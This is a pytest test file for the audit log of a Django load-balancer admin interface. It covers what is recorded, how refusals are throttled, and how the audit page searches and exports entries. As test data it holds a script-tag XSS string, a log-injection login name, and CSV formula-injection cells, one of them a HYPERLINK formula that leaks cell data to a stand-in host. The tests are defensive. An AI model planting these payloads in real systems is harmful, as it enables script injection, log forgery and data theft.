"""The audit log: what is written when somebody does something, and the page that shows it."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.db import DatabaseError, connection
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from lvs import models, store
from lvs.rows import audit as entries
from lvs.sent import orders
from piranha_web import audit
from piranha_web.access import lockout, passwords
from piranha_web.access.failures import Kind
from piranha_web.audit import Refusals
from piranha_web.views.audit import PAGE, unformulated
from tests.conftest import RedisServer
from tests.web.answering import answering
from tests.web.conftest import PASSWORD, USER
from tests.web.pages import fields_of, text_of
from tests.web.reports import report, status
from tests.web.test_every_address import EVERY
from tests.web.walking import NOT_WRITTEN, WALK, Site

Action = models.AuditEntry.Action
Outcome = models.AuditEntry.Outcome
EVIL = '<script>alert("x")</script>'


@pytest.fixture(autouse=True)
def _quick(
    redis_server: RedisServer, monkeypatch: pytest.MonkeyPatch, site: Any, tmp_path: Path, password_file: Path
) -> None:
    """Nothing is counted yet, no router is waited for, and the password file may be changed."""
    monkeypatch.setattr(audit, "REFUSALS", Refusals())
    for name in ("TEXT_SECONDS", "SERVER_SECONDS", "EXPLAIN_SECONDS", "TEST_SECONDS", "EXAMINE_SECONDS"):
        monkeypatch.setattr(orders, name, 0.5)
    own = tmp_path / "piranha.passwd"
    own.write_bytes(password_file.read_bytes())
    site.PIRANHA_PASSWORD_FILE = own


@pytest.fixture
def start() -> int:
    """The newest entry before the test did anything."""
    newest = models.AuditEntry.objects.first()
    return newest.pk if newest else 0


def since(start: int) -> list[models.AuditEntry]:
    """What was written in the test, oldest first."""
    return list(models.AuditEntry.objects.filter(pk__gt=start).order_by("pk"))


def test_every_address_that_takes_a_post_is_walked_or_has_its_reason(
    administrator: Client, cluster: models.Cluster
) -> None:
    takes_post = {
        name for name, address in EVERY if name != "logout" and administrator.post(address).status_code != 405
    }
    assert takes_post | {"logout"} == set(WALK) | set(NOT_WRITTEN)
    assert not set(WALK) & set(NOT_WRITTEN)


@pytest.mark.parametrize("name", sorted(WALK))
def test_whatever_is_done_is_written_down_with_who_from_where_and_what(
    administrator: Client, cluster: models.Cluster, start: int, name: str
) -> None:
    step, action, words = WALK[name]
    step(Site(administrator, cluster))

    written = since(start)
    assert {one.action for one in written} == {action}, written
    last = written[-1]
    assert words in last.text
    assert (last.user, last.address) == (USER, "127.0.0.1")
    of_no_cluster = (Action.LOGIN, Action.LOGOUT, Action.PASSWORD, Action.ACCOUNT, Action.SECOND_FACTOR,
                     Action.ALLOW, Action.ALERT, Action.LOCK)  # fmt: skip
    of = "second" if action == Action.CLUSTER else "lab"
    assert last.cluster == ("" if action in of_no_cluster else of)
    assert timezone.now() - last.at < timedelta(minutes=1)
    waits = action in (Action.ORDER, Action.SWITCH)
    assert [one.outcome for one in written] == ([Outcome.ASKED] if waits else []) + [Outcome.DONE]


@pytest.mark.parametrize(
    ("address", "fields"),
    [
        ("/virtual-servers/add", {"name": ""}),
        ("/global-settings", {"primary": "no address"}),
        ("/import/confirm", {"text": "x", "verb": "replace", "edition": "999"}),
        ("/apply", {"edition": "999"}),
        ("/discard", {"edition": "999"}),
        ("/password", {"old": "wrong", "new": "battery staple", "again": "battery staple"}),
    ],
)
def test_what_was_not_done_is_not_said_to_be(
    administrator: Client, cluster: models.Cluster, start: int, address: str, fields: dict[str, str]
) -> None:
    administrator.post(address, fields)
    assert since(start) == []


def test_a_form_that_is_saved_as_it_stood_is_no_change(
    administrator: Client, shop: models.VirtualServer, start: int
) -> None:
    page = f"/virtual-servers/{shop.pk}"
    assert administrator.post(page, fields_of(administrator, page)).status_code == 302
    assert since(start) == []


def test_a_change_that_cannot_be_written_down_is_not_made(
    administrator: Client, shop: models.VirtualServer, start: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_words: object, **_more: object) -> None:
        raise DatabaseError("database or disk is full")

    page = f"/virtual-servers/{shop.pk}"
    fields = fields_of(administrator, page) | {"scheduler": "rr"}
    monkeypatch.setattr(entries, "write", full)
    with pytest.raises(DatabaseError):
        administrator.post(page, fields)
    shop.refresh_from_db()
    assert shop.scheduler == "wlc"
    assert since(start) == []


def test_a_change_that_fails_after_all_leaves_no_entry(
    administrator: Client, shop: models.VirtualServer, start: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_words: object) -> None:
        raise RuntimeError("after the entry")

    page = f"/virtual-servers/{shop.pk}"
    fields = fields_of(administrator, page) | {"scheduler": "rr"}
    monkeypatch.setattr(audit, "write_change", fail)
    with pytest.raises(RuntimeError):
        administrator.post(page, fields)
    shop.refresh_from_db()
    assert shop.scheduler == "wlc"
    assert since(start) == []


def test_the_candidate_is_loaded_once_before_and_once_after_a_change(
    administrator: Client, shop: models.VirtualServer
) -> None:
    page = f"/real-servers/{shop.real_servers.get(name='web1').pk}"
    fields = fields_of(administrator, page) | {"weight": "7"}
    with CaptureQueriesContext(
        connection,
    ) as queries:
        administrator.post(page, fields)
    loads = [
        one["sql"]
        for one in queries
        if one["sql"].startswith("SELECT") and 'FROM "lvs_globalsettings"' in one["sql"]
    ]
    assert len(loads) <= 2, loads


def test_an_order_is_written_down_before_the_router_hears_of_it_and_when_it_refuses(
    administrator: Client, cluster: models.Cluster, start: int
) -> None:
    report("r1", status())
    with answering("r1", server={"refused": "no real server web1 of shop"}):
        administrator.post("/real-servers/order", {"order": "drain", "target": "shop/web1"})
    first, second = since(start)
    assert (first.outcome, second.outcome) == (Outcome.ASKED, Outcome.FAILED)
    assert "no real server web1 of shop" in second.text
    assert second.details["asked"] == first.pk
    assert second.details["order"] == "drain"
    assert second.target == "web1 of shop"


def test_an_order_whose_end_nobody_saw_stays_as_asked_and_unknown(
    administrator: Client, cluster: models.Cluster, start: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    def die(*_words: object) -> None:
        raise RuntimeError("the wire was cut")

    report("r1", status())
    monkeypatch.setattr(orders, "server", die)
    with pytest.raises(RuntimeError):
        administrator.post("/real-servers/order", {"order": "drain", "target": "shop/web1"})
    first, second = since(start)
    assert first.outcome == Outcome.ASKED
    assert "not known what came of it" in second.text


def test_a_verdict_that_comes_too_late_is_written_down_as_failed(
    administrator: Client, cluster: models.Cluster, start: int
) -> None:
    Site(administrator, cluster).frozen()
    administrator.post("/history/1/confirm")
    (one,) = since(start)
    assert (one.action, one.outcome) == (Action.CONFIRM, Outcome.FAILED)
    assert "does not wait for a confirmation" in one.text


def test_an_import_says_in_its_details_everything_that_it_changes(
    administrator: Client, cluster: models.Cluster, start: int
) -> None:
    WALK["import-confirm"][0](Site(administrator, cluster))
    (one,) = since(start)
    assert len(one.details["changes"]) > audit.TOLD
    assert any("remove virtual server shop" in change for change in one.details["changes"])
    assert f"and {len(one.details['changes']) - audit.TOLD} more" in one.text


# --- logging in, and being refused


def test_a_failed_login_keeps_the_name_as_typed_and_never_the_password(anonymous: Client, start: int) -> None:
    name = "eve\n2026-01-01 root from console done: \x1b[2J\u202e" + "x" * 60
    assert anonymous.post("/login", {"username": name, "password": "hunter2 hunter2"}).status_code == 403
    (one,) = since(start)
    assert (one.action, one.outcome, one.user) == (Action.LOGIN, Outcome.REFUSED, "")
    assert one.text.startswith(r"failed to log in as eve\n2026-01-01 root from console done: \x1b[2J\u202e")
    assert len(one.line.splitlines()) == 1
    whole = json.dumps([one.text, one.target, one.details])
    assert "hunter2" not in whole
    assert "x" * 60 not in whole


def test_passwords_stand_nowhere_in_the_log(administrator: Client, anonymous: Client, start: int) -> None:
    anonymous.post("/login", {"username": USER, "password": PASSWORD})
    administrator.post("/password", {"old": PASSWORD, "new": "battery staple", "again": "battery staple"})
    whole = json.dumps([[one.text, one.target, one.details] for one in since(start)])
    assert PASSWORD not in whole
    assert "battery" not in whole
    assert "argon2" not in whole


def test_whoever_guesses_without_end_does_not_fill_the_log(anonymous: Client, start: int) -> None:
    for number in range(Kind.NETWORK.value):
        lockout.count(f"guess{number}", "127.0.0.1", timezone.now())
    for number in range(40):
        anonymous.post("/login", {"username": f"name{number}", "password": "wrong password"})
        anonymous.post("/login", {"username": "x" * 500, "password": "wrong password"})
        anonymous.post("/login", {"username": f"name{number}"})
    (one,) = since(start)
    assert "too many attempts" in one.text


def test_failed_logins_from_very_many_addresses_are_bounded_together() -> None:
    refusals = Refusals()
    assert [refusals.has_room(number / 100) for number in range(500)].count(True) == audit.MOST_REFUSALS
    assert not refusals.has_room(59.9)
    assert refusals.has_room(60.0)


def test_a_stranger_is_written_down_once_a_minute(stranger: Client, start: int) -> None:
    for _ in range(30):
        assert stranger.get("/login").status_code == 403
    (one,) = since(start)
    assert (one.action, one.outcome, one.address) == (Action.NETWORK, Outcome.REFUSED, "203.0.113.9")


def test_a_stranger_is_refused_also_when_it_cannot_be_written_down(
    stranger: Client, start: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_words: object, **_more: object) -> None:
        raise DatabaseError("database or disk is full")

    monkeypatch.setattr(entries, "write", full)
    assert stranger.get("/login").status_code == 403
    assert since(start) == []


def test_a_form_of_a_foreign_page_is_written_down(
    administrator: Client, cluster: models.Cluster, start: int
) -> None:
    client = Client(enforce_csrf_checks=True)
    client.cookies = administrator.cookies
    assert client.post("/apply", {}).status_code == 403
    (one,) = since(start)
    assert (one.action, one.outcome) == (Action.FOREIGN_FORM, Outcome.REFUSED)


def test_whose_role_is_not_enough_is_written_down_with_the_role_that_it_takes(
    cluster: models.Cluster, start: int, site: Any
) -> None:
    passwords.set_password("anna", PASSWORD, site.PIRANHA_PASSWORD_FILE)
    client = Client()
    assert client.post("/login", {"username": "anna", "password": PASSWORD}).status_code == 302
    for _ in range(5):
        assert client.post("/apply", {}).status_code == 403
    assert client.get("/audit").status_code == 403
    _login, first, second = since(start)
    assert (first.user, first.action, first.outcome) == ("anna", Action.FORBIDDEN, Outcome.REFUSED)
    assert first.text == "POST apply takes the role administrator"
    assert second.text == "GET audit takes the role administrator"


def test_the_same_refusal_is_counted_and_told_when_the_minute_is_over() -> None:
    refusals = Refusals()
    one, other = ("network", "203.0.113.9"), ("network", "203.0.113.10")
    assert refusals.heard(one, 0.0) == [(one, 1)]
    assert [refusals.heard(one, float(second)) for second in range(1, 59)] == [[]] * 58
    assert refusals.heard(other, 59.0) == [(other, 1)]
    assert refusals.heard(one, 60.0) == [(one, 58), (one, 1)]
    assert refusals.heard(other, 200.0) == [(other, 1)]


def test_refusals_of_very_many_addresses_are_bounded_together() -> None:
    refusals = Refusals()
    written = [
        entry
        for number in range(5000)
        for entry in refusals.heard(("network", f"a{number}", "", "", ""), 1.0)
    ]
    assert len(written) == audit.MOST_REFUSALS + 1
    assert written[-1] == (("network", "many addresses", "", "", ""), 1)
    later = refusals.heard(("network", "a9999", "", "", ""), 61.0)
    assert later[0] == (("network", "many addresses", "", "", ""), 5000 - audit.MOST_REFUSALS - 1)


# --- the page


def write(text: str = "did it", **more: Any) -> models.AuditEntry:
    return entries.write(Action.APPLY, text, **{"user": "anna", "address": "192.168.1.5", **more})


def test_the_page_shows_the_newest_first_and_is_in_the_navigation(
    administrator: Client, cluster: models.Cluster
) -> None:
    write("the older")
    write("the newer", outcome=Outcome.FAILED)
    page = text_of(administrator.get("/audit"))
    assert page.index("the newer") < page.index("the older")
    assert 'href="/audit" aria-current="page"' in page
    assert "192.168.1.5" in page
    assert "failed</span>" in page


def test_whatever_a_stranger_types_is_text_on_the_page(
    administrator: Client, anonymous: Client, cluster: models.Cluster
) -> None:
    anonymous.post("/login", {"username": EVIL, "password": "wrong password"}, HTTP_USER_AGENT=EVIL)
    page = text_of(administrator.get("/audit"))
    assert EVIL not in page
    assert "&lt;script&gt;" in page


def test_the_log_is_paged_by_what_comes_before_and_after(
    administrator: Client, cluster: models.Cluster
) -> None:
    made = [write(f"entry number {number};") for number in range(PAGE * 2 + 10)]
    first = administrator.get("/audit").context
    assert [one.pk for one in first["entries"]] == [one.pk for one in made[: -PAGE - 1 : -1]]
    assert (first["newer"], first["older"]) == (None, made[-PAGE].pk)
    second = administrator.get("/audit", {"before": first["older"]}).context
    assert second["entries"][0].pk == made[-PAGE - 1].pk
    assert second["newer"] == made[-PAGE - 1].pk
    third = administrator.get("/audit", {"before": second["older"], "q": "entry number"}).context
    assert [one.pk for one in third["entries"]] == [one.pk for one in made[9::-1]]
    assert third["older"] is None
    back = administrator.get("/audit", {"after": second["newer"]}).context
    assert [one.pk for one in back["entries"]] == [one.pk for one in first["entries"]]
    assert back["newer"] is None


@pytest.mark.parametrize(
    ("sought", "found"),
    [
        ({"q": "WEB7"}, {"b"}),
        ({"q": "100%"}, {"d"}),
        ({"q": "%"}, {"d"}),
        ({"user": "anna"}, {"a", "b"}),
        ({"address": "10."}, {"c"}),
        ({"action": "order"}, {"c"}),
        ({"user": "anna", "q": "web7"}, {"b"}),
        ({"since": "2030-01-02T00:00"}, {"b"}),
        ({"since": "2030-01-01", "until": "2030-01-02 00:00"}, {"a"}),
        ({"q": "nothing like that"}, set()),
        ({"before": "x", "after": "9" * 40, "user": "anna"}, {"a", "b"}),
    ],
)
def test_entries_are_found_by_words_user_address_action_and_time(
    administrator: Client, cluster: models.Cluster, sought: dict[str, str], found: set[str]
) -> None:
    rows = [
        {"text": "a", "user": "anna", "at": "2030-01-01T12:00:00Z", "action": "apply"},
        {"text": "b", "user": "anna", "at": "2030-01-02T12:00:00Z", "action": "apply", "details": ["web7"]},
        {"text": "c", "user": "bob", "address": "10.0.0.7", "action": "order"},
        {"text": "d", "user": "bob", "address": "", "action": "apply", "target": "100% of it"},
    ]
    for row in rows:
        models.AuditEntry.objects.create(**({"address": "192.168.1.5"} | row))
    response = administrator.get("/audit", sought)
    assert {one.text for one in response.context["entries"]} & set("abcd") == found


@pytest.mark.parametrize("wrong", [{"since": "yesterday"}, {"action": "nothing"}, {"q": "a\0b"}])
def test_a_field_that_cannot_be_read_finds_nothing_and_says_so(
    administrator: Client, cluster: models.Cluster, wrong: dict[str, str]
) -> None:
    write()
    response = administrator.get("/audit", wrong)
    assert response.status_code == 200
    assert response.context["entries"] == []
    assert "mend what is marked above" in text_of(response)
    assert administrator.get("/audit/export", wrong).status_code == 302


def export(client: Client, **asked: str) -> str:
    response = client.get("/audit/export", asked)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response).decode()  # type: ignore[arg-type]


def test_the_export_as_json_lines_has_everything_that_was_sought(
    administrator: Client, cluster: models.Cluster, start: int
) -> None:
    write("kept", details={"changes": ["shop: scheduler wlc → rr"]}, target="shop")
    write("left out", user="bob")
    (line,) = export(administrator, form="jsonl", user="anna").splitlines()
    document = json.loads(line)
    assert document["text"] == "kept"
    assert document["details"] == {"changes": ["shop: scheduler wlc → rr"]}
    assert document["at"].endswith("+00:00")
    last = since(start)[-1]
    assert (last.action, last.text) == (Action.EXPORT, "exported the audit log as jsonl: only user=anna")


def test_the_export_as_csv_is_no_formula_in_any_cell(administrator: Client, cluster: models.Cluster) -> None:
    for evil in ("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1,"ok")', "＝1", " =1"):
        write(evil, user=evil, target=evil)
    rows = list(csv.reader(io.StringIO(export(administrator, form="csv"))))
    assert rows[0][:3] == ["id", "at", "user"]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@＝")]
    assert "'=1+1" in cells
    assert '\'=HYPERLINK("http://x/?"&A1,"ok")' in cells


@pytest.mark.parametrize(("cell", "harmless"), [("plain", "plain"), ("", ""), ("-", "'-"), ("a=b", "a=b")])
def test_a_cell_gets_an_apostrophe_only_where_it_begins_like_a_formula(cell: str, harmless: str) -> None:
    assert unformulated(cell) == harmless


def test_a_long_log_is_exported_piece_by_piece(administrator: Client, cluster: models.Cluster) -> None:
    models.AuditEntry.objects.bulk_create(
        [models.AuditEntry(action="apply", user="anna", text=f"entry {number}") for number in range(1200)]
    )
    response = administrator.get("/audit/export", {"form": "jsonl"})
    assert response.streaming
    assert len(b"".join(response).splitlines()) >= 1200  # type: ignore[arg-type]


def test_a_request_that_has_no_session_yet_can_be_written_about(start: int) -> None:
    request = RequestFactory().get("/x", REMOTE_ADDR="203.0.113.9")
    audit.record(request, Action.NETWORK, "x", outcome=Outcome.REFUSED)
    (one,) = since(start)
    assert (one.user, one.address) == ("", "203.0.113.9")


def test_what_is_pending_is_ready_for_the_page_after_a_change(
    administrator: Client,
    shop: models.VirtualServer,
    django_capture_on_commit_callbacks: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    page = f"/virtual-servers/{shop.pk}"
    fields = fields_of(administrator, page) | {"scheduler": "rr"}
    with django_capture_on_commit_callbacks(execute=True):
        administrator.post(page, fields)

    def load(_cluster: models.Cluster) -> None:
        raise AssertionError("it was worked out again")

    monkeypatch.setattr(store, "load", load)
    assert any("scheduler wlc → rr" in str(one) or "shop" in str(one) for one in store.pending(shop.cluster))
